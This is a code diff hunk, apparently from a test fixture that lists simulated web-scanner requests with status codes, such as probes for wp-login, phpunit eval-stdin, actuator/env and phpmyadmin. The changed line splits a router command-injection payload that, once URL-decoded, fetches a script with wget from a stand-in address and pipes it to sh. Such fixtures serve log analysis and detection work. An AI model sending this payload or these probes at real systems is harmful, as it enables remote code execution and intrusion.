@@ -23,7 +23,8 @@ SCAN_REQUESTS = (
     ("GET /wp-login.php HTTP/1.1", 404, 22), ("GET /wp-admin/setup-config.php?step=1 HTTP/1.1", 404, 22),
     ("POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1", 404, 22),
     ("GET /actuator/env HTTP/1.1", 404, 22), ("GET /phpmyadmin/index.php HTTP/1.1", 404, 22),
-    ("GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+-O-+http%3A%2F%2F198.18.0.9%2Fx%7Csh%60) HTTP/1.1", 404, 22),
+    ("GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country="
+     "$(id%3E%60wget+-O-+http%3A%2F%2F198.18.0.9%2Fx%7Csh%60) HTTP/1.1", 404, 22),
     ("GET /robots.txt HTTP/1.1", 404, 22), ("GET /favicon.ico HTTP/1.1", 404, 22),
     ("GET / HTTP/1.1", 200, 1243), ("GET /server-status HTTP/1.1", 404, 22),
     ("GET /api/v1/models HTTP/1.1", 404, 22), ("GET /v1/models HTTP/1.1", 200, 431),
